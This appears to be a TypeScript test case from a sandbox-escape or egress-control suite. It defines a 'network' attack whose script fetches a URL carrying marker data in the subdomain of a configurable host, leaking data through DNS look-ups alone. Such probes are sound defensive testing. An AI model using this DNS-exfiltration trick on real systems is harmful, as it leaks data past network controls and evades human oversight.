import {defineAttack} from '../../attack.ts';

export const attack = defineAttack({
  kind: 'network',
  tries: 'Data in the name of a host, which only a look-up has to see.',
  script: `await fetch(\`http://\${mark}.\${host}:\${port}/\`, {mode: 'no-cors'});`,
});
